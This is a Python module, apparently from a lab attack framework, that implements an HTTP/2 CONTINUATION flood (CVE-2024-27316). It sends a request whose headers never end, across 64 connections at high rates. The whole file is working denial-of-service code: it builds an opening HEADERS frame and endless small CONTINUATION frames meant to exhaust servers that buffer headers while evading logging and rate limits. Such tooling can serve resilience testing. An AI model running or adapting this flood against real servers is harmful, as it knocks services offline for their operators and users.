"""HTTP/2 continuation flood (CVE-2024-27316 and its like): a request whose headers never end. Until they do,
nothing is logged and no limit on requests applies. It is aimed at servers that keep all of it; who ends the
connection at a limit is not harmed."""

from __future__ import annotations

import asyncio
import random

from pydantic import Field

from rempart.lab.attacks.contract import Attack, Order, Sources, Target, Unit
from rempart.lab.attacks.http2_frames import (
    CONTINUATION,
    END_STREAM,
    HEADERS,
    Http2Parameters,
    Line,
    frame,
    header_block,
    hold,
)
from rempart.lab.attacks.reporting import Tally, own_sender, run_sender

FIELD_OVERHEAD = 4
"""Octets of a header field named ``x`` besides its value."""


class Http2Continuation(Http2Parameters):
    """What a continuation flood can be told besides."""

    fragment_bytes: int = Field(default=5, ge=FIELD_OVERHEAD, le=130)
    """Octets of a frame's contents. Small ones take longest to reach a limit on size."""


HTTP2_CONTINUATION = Attack(
    name="http2-continuation",
    unit=Unit.FRAMES,
    summary="endless headers: CONTINUATION frames without an end on 64 HTTP/2 connections",
    defaults=Http2Continuation(
        rate=20_000, sources=Sources.PREFIXES, v6_share=0.2, connections=64, units_per_connection=1_000_000
    ),
    sender=lambda order: own_sender(order, "http2_continuation"),
)


def opening(target: Target) -> bytes:
    """The request that does not end; it is no unit itself."""
    block = header_block(
        ((":method", "GET"), (":scheme", "https"), (":authority", target.host), (":path", "/"))
    )
    return frame(HEADERS, END_STREAM, 1, block)


def fragment(length: int) -> bytes:
    """A CONTINUATION with one whole header field and no END_HEADERS."""
    return frame(CONTINUATION, 0, 1, header_block((("x", "y" * (length - FIELD_OVERHEAD)),)))


def carry_out(order: Order, tally: Tally) -> None:
    parameters = Http2Continuation.model_validate(order.parameters)
    first, each = opening(order.target), fragment(parameters.fragment_bytes)

    def more(line: Line, count: int, chosen: random.Random) -> bytes:
        return (b"" if line.units else first) + each * count

    asyncio.run(hold(order, parameters, tally, more))


if __name__ == "__main__":
    run_sender(carry_out)
